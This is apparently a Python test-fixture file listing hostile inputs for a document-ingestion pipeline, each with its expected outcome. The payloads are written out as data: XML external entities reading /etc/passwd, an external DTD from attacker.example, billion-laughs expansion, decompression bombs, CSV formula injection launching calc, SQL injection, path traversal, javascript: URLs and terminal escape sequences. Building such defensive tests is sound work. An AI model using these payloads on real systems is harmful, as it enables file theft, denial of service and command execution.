"""
What strangers may send, each with what must become of it.

``stored``: an article; ``undecidable``: an article that is never compared; else the code of the reject.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import lzma
from collections.abc import Callable
from typing import Any

import pyarrow
import zstandard
from pyarrow import parquet

from tests.fakes.archives import page_record, record, response

ZH = "北山日报记者昨天从市水务局获悉，城南水厂的第二条管道已经修好，全市供水恢复正常，居民不必再到街口取水。" * 3
EN = "The harbour bridge was opened on Monday by the mayor, who thanked the workers and asked for patience. " * 4
P = f"<p>{EN}</p>"
MB = 1_000_000


def page(body: str, head: str = "") -> bytes:
    return f"<!doctype html><html><head><title>Bridge</title>{head}</head><body>{body}</body></html>".encode()


def around(middle: str) -> bytes:
    return page(P + middle + P)


def deep(name: str, depth: int) -> bytes:
    return page(f"<{name}>" * depth + EN + f"</{name}>" * depth)


BAD_ADDRESSES = (
    "http://[::1",
    "javascript:x",
    "http://e.org\\@x",
    "//",
    "http://\u2100.example/",
    "http://x:99999",
)


def attributes(count: int) -> bytes:
    return page("<p " + " ".join(f"a{n}=1" for n in range(count)) + f">{EN}")


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

# Page files: name → (what to write, outcome).
PAGES: dict[str, tuple[Callable[[], bytes], str]] = {
    # encodings
    "utf-7.html": (lambda: page("+ADw-script+AD4-alert(1)" + P, "<meta charset=utf-7>"), "stored"),
    "utf-16-without-mark.html": (lambda: page(P + ZH).decode().encode("utf-16-le"), "stored"),
    "utf-16-cut-in-a-character.html": (lambda: page(P + ZH).decode().encode("utf-16")[:-1], "stored"),
    "utf-32.html": (lambda: page(P + ZH).decode().encode("utf-32"), "stored"),
    "overlong.html": (lambda: page(P).replace(b"<p>", b"<p>\xc0\xbcscript\xe0\x80\xaf"), "stored"),
    "surrogates-as-utf-8.html": (lambda: page(P + ZH).replace(b"bridge", b"\xed\xa0\xbd\xed\xb8\x80"), "stored"),
    "beyond-unicode.html": (lambda: page(P + ZH).replace(b"bridge", b"\xf4\x90\x80\x80\xff\xfe"), "stored"),
    "some-nul.html": (lambda: page(P).replace(b"mayor", b"ma\0yor"), "stored"),
    "nul-in-tags.html": (lambda: page(P).replace(b"<p>", b"<\0p\0 cl\0ass=x>"), "stored"),
    "only-nul.txt": (lambda: bytes(1_000), "input.binary"),
    "mark-in-the-middle.txt": (lambda: ZH.encode() + b"\xef\xbb\xbf" + EN.encode(), "stored"),
    "two-marks.html": (lambda: b"\xef\xbb\xbf\xef\xbb\xbf" + page(P), "stored"),
    "gbk-cut.html": (lambda: page(ZH, "<meta charset=gbk>").decode().encode("gbk")[:-31], "stored"),
    "gbk-said-to-be-utf-8.html": (lambda: page(ZH, "<meta charset=utf-8>").decode().encode("gbk"), "stored"),
    "utf-8-said-to-be-gbk.html": (lambda: page(ZH, "<meta charset=gbk>"), "stored"),
    "endless-label.html": (lambda: page(P, "<meta charset='" + "x" * MB + "'>"), "stored"),
    "label-that-is-code.html": (lambda: page(P, "<meta charset=unicode_escape>"), "stored"),
    "label-that-is-no-text.html": (lambda: page(P, "<meta charset=base64>"), "stored"),
    "random.html": (lambda: bytes(n * n * 31 % 251 for n in range(20_000)), "input.binary"),
    "gzip-as.html": (lambda: gzip.compress(page(P)), "input.binary"),
    "pdf-as.html": (lambda: b"%PDF-1.7\n" + bytes(200), "input.binary"),
    # markup
    "nested-100000-deep.html": (lambda: deep("div", 99_000), "stored"),
    "nested-inline.html": (lambda: deep("b", 20_000), "stored"),
    "nested-tables.html": (lambda: deep("table><tr><td", 2_000), "stored"),
    "nested-lists.html": (lambda: deep("ul><li", 5_000), "stored"),
    "million-attributes.html": (lambda: attributes(MB), "input.too_large"),
    "thousands-of-attributes.html": (lambda: attributes(4_000), "stored"),
    "tags-with-thousands-of-attributes.html": (
        lambda: page(P + "".join(f"<p {' '.join(f'a{n}' for n in range(2_000))}>" for _ in range(150))), "input.too_large",
    ),
    "million-lines.html": (lambda: page(P + "<pre>" + "x\n" * MB), "input.too_large"),
    "unclosed-comment.html": (lambda: around("<!--" + "- " * 500_000), "stored"),
    "unclosed-script.html": (lambda: page(P + "<script>" + "x=1;" * 200_000), "stored"),
    "unclosed-tags.html": (lambda: page(P + "<a " * 20_000), "input.too_large"),
    "unclosed-attribute.html": (lambda: page(P + '<a href="' + "x" * MB), "stored"),
    "many-scripts.html": (lambda: around("<script>for(;;){document.write('<p>')}</script>" * 20_000), "stored"),
    "plaintext.html": (lambda: page(P + "<plaintext>" + "<b>" * 50_000), "stored"),
    "cdata.html": (lambda: around("<![CDATA[" + "]]>" * 10_000 + "<script>"), "stored"),
    "billion-laughs.html": (
        lambda: f'<!DOCTYPE h [<!ENTITY l0 "ha">{LAUGHS}]>'.encode() + around("&l9;"), "stored",
    ),
    "external-entity.html": (
        lambda: b'<!DOCTYPE h [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + around("&x;"), "stored",
    ),
    "external-dtd.html": (
        lambda: b'<!DOCTYPE html SYSTEM "http://attacker.example/x.dtd">' + around("&x;"), "stored",
    ),
    "xinclude.html": (
        lambda: around('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'),
        "stored",
    ),
    "entity-flood.html": (lambda: around("&amp;&#x6c34;&#99999999999;&nosuch;" * 60_000), "stored"),
    "20-mb-on-one-line.html": (lambda: page("雨" * 7 * MB), "input.too_large"),
    "20-mb-on-one-line.txt": (lambda: b"rain " * 4 * MB, "input.too_large"),
    "2-mb-on-one-line.html": (lambda: page(P + "雨水" * 350_000), "stored"),
    "300000-links.html": (lambda: page(P + '<a href="/x">x</a>' * 300_000), "input.too_large"),
    "60000-links.html": (lambda: page(P + '<a href="/x">x</a> ' * 60_000), "stored"),
    "data-address.html": (lambda: around(f'<img src="data:image/png;base64,{"A" * 5 * MB}">'), "stored"),
    "hostile-addresses.html": (
        lambda: page(
            "".join(f'<a href="{url}">来源</a>' for url in BAD_ADDRESSES) + P,
            '<base href="http://[bad"><link rel=canonical href="http://[bad/">',
        ),
        "stored",
    ),
    "hostile-dates.html": (
        lambda: page(
            P, "".join(f'<meta property="article:published_time" content="{day}">' for day in
                       ("0000-00-00", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:60+25:00", "2024-02-30")),
        ),
        "stored",
    ),
    "hostile-linked-data.html": (
        lambda: page(P, f'<script type="application/ld+json">{"[" * 50_000}</script>'), "stored",
    ),
    "null.html": (lambda: b"", "input.empty"),
    "only-blanks.html": (lambda: b" \n\t" * 1_000, "input.empty"),
    "only-tags.html": (lambda: page("<div></div>" * 1_000), "undecidable"),
    "only-frames.html": (lambda: b"<frameset><frame src=a.html></frameset>", "undecidable"),
    "only-punctuation.txt": (lambda: "……。。。——！！！".encode() * 1_000, "undecidable"),
    "only-one-character.txt": (lambda: "哈".encode() * 30_000, "undecidable"),
    "only-spaces-in-between.txt": (lambda: b"a" + b" " * 100_000 + b"b", "undecidable"),
    # text that is more than it seems
    "stacked-marks.txt": (lambda: EN.encode() + ("a" + "\u0301\u0316" * 40_000).encode(), "stored"),
    "ligatures-that-grow.txt": (lambda: EN.encode() + ("\ufdfa" * 20_000).encode(), "stored"),
    "turned-round.txt": (lambda: ("\u202e\u2066" + EN + "\u202c\u200b\u2060\ufeff").encode(), "stored"),
    "invisible.txt": (lambda: "\u200b".join(EN).encode(), "stored"),
    "steers-the-terminal.txt": (lambda: b"\x1b[2J\x1b]0;owned\x07\x9b31m Bridge\n" + EN.encode(), "stored"),
    "formula.txt": (lambda: b"=cmd|' /C calc'!A0\n" + EN.encode(), "stored"),
    "markup-of-the-terminal.txt": (lambda: b"[/b][red]Bridge[/]\n" + EN.encode(), "stored"),
    "backtracks.txt": (lambda: ("来源：" + " " * 3_000 + "\n").encode() * 300 + ZH.encode(), "stored"),
    "claims-without-end.txt": (lambda: "（来源：新华社北京9月11日电 记者 ".encode() * 3_000 + ZH.encode(), "stored"),
    # packed pages
    "bomb.html.gz": (lambda: gzip.compress(bytes(300 * MB), 9), "input.too_large"),
    "bomb.html.xz": (lambda: lzma.compress(b"<p>" + bytes(60 * MB), preset=1), "input.too_large"),
    "bomb.txt.zst": (lambda: zstandard.compress(b" " * 300 * MB), "input.bomb"),
    "packed-twice.html.gz": (lambda: gzip.compress(gzip.compress(page(P))), "input.binary"),
    "cut.html.gz": (lambda: gzip.compress(around(ZH))[:-200], "input.truncated"),
    "not-packed.html.gz": (lambda: page(P), "input.damaged"),
    "greedy.html.xz": (
        lambda: lzma.compress(page(P), filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 30}]), "input.damaged",
    ),
    "packed.html.zst": (lambda: zstandard.compress(page(P)), "stored"),
}  # fmt: skip


def line(**fields: Any) -> bytes:
    """Return a record, with an id that no other has unless it has one."""
    fields.setdefault("id", hashlib.sha256(repr(fields).encode("utf-8", "replace")).hexdigest()[:12])
    return json.dumps(fields, ensure_ascii=False).encode("utf-8", "surrogatepass") + b"\n"


def nested(depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = [value]
    return value


# Records: name → (one line of JSON, outcome); each stands in a file of its own between two good ones.
RECORDS: dict[str, tuple[Callable[[], bytes], str]] = {
    "keys-twice": (lambda: b'{"text": "first", "id": "k2", "text": "' + EN.encode() + b'"}\n', "stored"),
    "whole-number-as-id": (lambda: line(id=12, text=EN), "stored"),
    "endless-id": (lambda: line(id="x" * 10 * MB, text=EN), "input.record"),
    "endless-number-as-id": (lambda: b'{"id": 1' + b"0" * 4_000 + b', "text": "x"}\n', "input.record"),
    "truth-as-id": (lambda: line(id=True, text=EN), "input.record"),
    "id-that-steers": (lambda: line(id="\x1b[31m\u202e\n=1+1", text=EN), "stored"),
    "id-of-another": (lambda: line(id="good-1", text=EN + "again"), "input.id_reused"),
    "no-number": (lambda: b'{"text": "x", "n": NaN}\n', "input.json"),
    "infinite-number": (lambda: line(text=EN).replace(b"}", b', "n": 1e999}'), "input.record"),
    "huge-number": (lambda: line(text=EN, n=10**300), "stored"),
    "number-of-5000-digits": (lambda: b'{"text": "x", "n": ' + b"9" * 5_000 + b"}\n", "input.json"),
    "nested-100000-deep": (lambda: b'{"text": "x", "n": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n", "input.json"),
    "nested-500-deep": (lambda: line(text=EN, n=nested(500)), "input.record"),
    "nested-50-deep": (lambda: line(text=EN, n=nested(50)), "stored"),
    "raw-control-characters": (lambda: b'{"text": "a\x01b\x1b"}\n', "input.json"),
    "escaped-control-characters": (lambda: line(text=EN + "\0\x01\x1b[31m\x85\u2028"), "stored"),
    "half-a-pair": (lambda: b'{"text": "\\ud800' + EN.encode() + b'\\udfff", "id": "hp"}\n', "stored"),
    "half-a-pair-as-key": (lambda: b'{"text": "' + EN.encode() + b'", "\\ud800": 1, "id": "hk"}\n', "stored"),
    "number-as-html": (lambda: line(html=5), "input.record"),
    "list-as-text": (lambda: line(text=["x"]), "input.record"),
    "object-as-title": (lambda: line(text=EN, title={"a": 1}), "input.record"),
    "number-as-url": (lambda: line(text=EN, url=7), "input.record"),
    "html-and-text": (lambda: line(html=P, text=EN), "input.record"),
    "blank-text": (lambda: line(text=" \u3000\n"), "input.empty"),
    "empty-object": (lambda: b"{}\n", "input.record"),
    "list": (lambda: b'[{"text": "x"}]\n', "input.record"),
    "word": (lambda: b'"text"\n', "input.record"),
    "not-utf-8": (lambda: b'{"text": "\xff\xfe"}\n', "input.encoding"),
    "mark-before-the-line": (lambda: b"\xef\xbb\xbf" + line(text=EN), "input.json"),
    "half-a-line": (lambda: b'{"text": "x\n', "input.json"),
    "17-mb": (lambda: line(text="x" * 17 * MB), "input.too_large"),
    "html-of-11-mb": (lambda: line(html="<p>" + "x" * 11 * MB), "input.too_large"),
    "endless-title": (lambda: line(text=EN, title="x" * 20_000), "input.record"),
    "endless-url": (lambda: line(text=EN, url="http://a.example/" + "x" * 5_000), "input.record"),
    "url-with-half-a-host": (lambda: line(text=EN, url="http://[::1"), "stored"),
    "url-with-a-strange-host": (lambda: line(text=EN, url="http://e.org\\@evil.example/\u2100"), "stored"),
    "url-that-runs": (lambda: line(text=EN, url="javascript:alert(1)"), "stored"),
    "url-of-a-file": (lambda: line(text=EN, url="file:///../../../../etc/passwd"), "stored"),
    "no-day": (lambda: line(text=EN, fetched_at="2024-02-30"), "input.date"),
    "year-zero": (lambda: line(text=EN, fetched_at="0000-00-00T00:00:00Z"), "input.date"),
    "zone-of-25-hours": (lambda: line(text=EN, fetched_at="2024-01-01T00:00:00+25:00"), "input.date"),
    "words-as-date": (lambda: line(text=EN, fetched_at="yesterday"), "input.date"),
    "date-to-come": (lambda: line(text=EN, fetched_at="9999-12-31T23:59:59Z"), "stored"),
    "first-of-all-days": (lambda: line(text=EN, fetched_at="0001-01-01T00:00:00+14:00"), "stored"),
    "leap-second": (lambda: line(text=EN, fetched_at="2016-12-31T23:59:60Z"), "stored"),
    "nonsense-as-published": (lambda: line(text=EN, published="\x1b[0m" * 20), "stored"),
    "names-of-ours": (lambda: line(text=EN, path="../../x", sha256="x", extra={}, __proto__={}, source=1), "stored"),
    "100000-fields": (lambda: line(text=EN, **{f"f{n}": n for n in range(100_000)}), "stored"),
    "sql": (lambda: line(text=EN, id="'; DROP TABLE article; --", title="%_\\\"'"), "stored"),
    "formula-as-title": (lambda: line(text=EN, title="=HYPERLINK(\"http://x\")", outlet="@SUM(1)"), "stored"),
}  # fmt: skip


def rows(name: str, *more: bytes) -> bytes:
    return b"".join([line(id=f"first of {name}", text=EN + name), *more])


def parquet_bomb() -> bytes:
    column = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * 64), ["x" * 40_000_000])
    out = io.BytesIO()
    parquet.write_table(pyarrow.table({"text": column}), out, compression="zstd")
    return out.getvalue()


# Files of many records: name → (what to write, the codes of its rejects in order, how many records are stored).
FILES: dict[str, tuple[Callable[[], bytes], list[str], int]] = {
    "blank-lines.jsonl.gz": (lambda: gzip.compress(rows("blank") + b"\n" * 150 * MB), ["input.bomb"], 1),
    "one-endless-line.jsonl.zst": (lambda: zstandard.compress(rows("endless") + b"x" * 200 * MB), ["input.bomb"], 1),
    "endless-list.json.xz": (lambda: lzma.compress(b"[" + b" " * 90 * MB, preset=0), ["input.bomb"], 0),
    "cut.jsonl.gz": (lambda: gzip.compress(rows("cut", *(line(text=EN + str(n)) for n in range(9))), 0)[:-30],
                     ["input.truncated"], 9),
    "flipped.jsonl.xz": (lambda: lzma.compress(rows("flip"))[:-80] + bytes(80), ["input.damaged"], 0),
    "garbage-behind.jsonl.zst": (lambda: zstandard.compress(rows("garbage")) + b"garbage", ["input.damaged"], 1),
    "nul.jsonl": (lambda: bytes(100), ["input.binary"], 0),
    "open-quote.csv": (lambda: f'id,text\nc1,"{EN}\nc2,"x{EN}"\nc3,"y{EN}"\n'.encode(), ["input.csv"], 2),
    "ragged.csv": (lambda: f'id,text\nc4\nc5,"{EN}",x\nc6,"{EN}6"\n'.encode(), ["input.csv"] * 2, 1),
    "nul.csv": (lambda: f'id,text\nc7,"{EN}\0"\nc8,"{EN}8"\n'.encode(), [], 2),
    "formula.csv": (lambda: f'id,text,title\n=1+1,"{EN}f",@x\n'.encode(), [], 1),
    "no-header.csv": (lambda: f'"{EN}"\n'.encode(), ["input.csv"], 0),
    "bomb.parquet": (parquet_bomb, ["input.bomb"], 0),
    "garbage.parquet": (lambda: b"PAR1" + bytes(200) + b"\xff\xff\xff\x7fPAR1", ["input.parquet"], 0),
    "cut.parquet": (lambda: b"PAR1" + bytes(50), ["input.parquet"], 0),
    "lies.warc": (
        lambda: page_record(1, P) + record(response(page(P)), length=99_999_999_999) + page_record(2, P),
        ["input.truncated"], 1,
    ),
    "says-less.warc": (
        lambda: page_record(3, P) + record(response(page(P)), length=300) + page_record(4, P), ["input.length"], 2,
    ),
    "says-more.warc": (
        lambda: page_record(5, P) + record(response(page(P)), length=len(response(page(P))) + 9) + page_record(6, P),
        ["input.length"], 2,
    ),
    "cut.warc.gz": (
        lambda: gzip.compress(page_record(7, P)) + gzip.compress(page_record(8, P))[:-40], ["input.truncated"], 1,
    ),
    "unpacks-without-end.warc": (
        lambda: record(response(gzip.compress(bytes(200 * MB)), "Content-Encoding: gzip")) + page_record(9, P),
        ["input.too_large"], 1,
    ),
    "climbs.warc": (lambda: record(response(page(P)), url="file:///../../../etc/passwd"), [], 1),
    "endless-header.warc": (
        lambda: b"WARC/1.0\r\n" + b"X: y\r\n" * 200_000 + b"\r\n" + page_record(10, P), ["input.damaged"], 1,
    ),
    "garbage.warc": (lambda: b"\r\n".join([b"WARC/1.0"] * 9), ["input.truncated"] * 8, 0),
}  # fmt: skip
